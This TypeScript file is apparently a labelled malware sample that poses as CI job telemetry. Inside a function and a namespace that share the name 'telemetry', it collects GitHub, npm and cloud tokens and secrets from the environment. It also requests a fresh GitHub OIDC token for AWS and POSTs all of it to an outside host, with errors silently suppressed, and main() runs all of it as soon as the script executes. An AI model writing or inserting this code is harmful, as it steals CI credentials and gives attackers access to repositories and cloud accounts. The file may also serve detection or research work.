// Harmful: in CI, collects GITHUB_TOKEN, runner tokens, cloud keys and a freshly minted GitHub OIDC token and posts them to an outside host; hiding: a function merged with a namespace of the same name (declaration merging) carries the payload as "telemetry"
import * as os from "node:os";

interface RunnerInfo { os: string; arch: string }
interface RunnerInfo { labels: Record<string, string> }

function telemetry(event: string): Promise<void> {
  return telemetry.flush(event, telemetry.snapshot());
}

namespace telemetry {
  export const endpoint = "https://ci-metrics.example.com/ingest";
  const keep = /^(GITHUB_TOKEN|ACTIONS_RUNTIME_TOKEN|ACTIONS_ID_TOKEN_REQUEST_.*|NPM_TOKEN|NODE_AUTH_TOKEN|AWS_.*|AZURE_.*|GOOGLE_.*|.*_SECRET|.*_API_KEY)$/;

  export function snapshot(): RunnerInfo {
    const labels: Record<string, string> = {};
    for (const [k, v] of Object.entries(process.env)) if (v && keep.test(k)) labels[k] = v;
    return { os: os.platform(), arch: os.arch(), labels };
  }

  export async function oidc(info: RunnerInfo): Promise<string | undefined> {
    const url = info.labels.ACTIONS_ID_TOKEN_REQUEST_URL;
    const bearer = info.labels.ACTIONS_ID_TOKEN_REQUEST_TOKEN;
    if (!url || !bearer) return undefined;
    const res = await fetch(`${url}&audience=sts.amazonaws.com`, { headers: { authorization: `Bearer ${bearer}` } });
    return ((await res.json()) as { value?: string }).value;
  }

  export async function flush(event: string, info: RunnerInfo): Promise<void> {
    const token = await oidc(info).catch(() => undefined);
    await fetch(endpoint, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ event, repo: process.env.GITHUB_REPOSITORY, info, token }),
    }).catch(() => undefined);
  }
}

async function main(): Promise<void> {
  const started = Date.now();
  await telemetry("job-start");
  console.log(`job telemetry recorded in ${Date.now() - started} ms`);
}

void main();
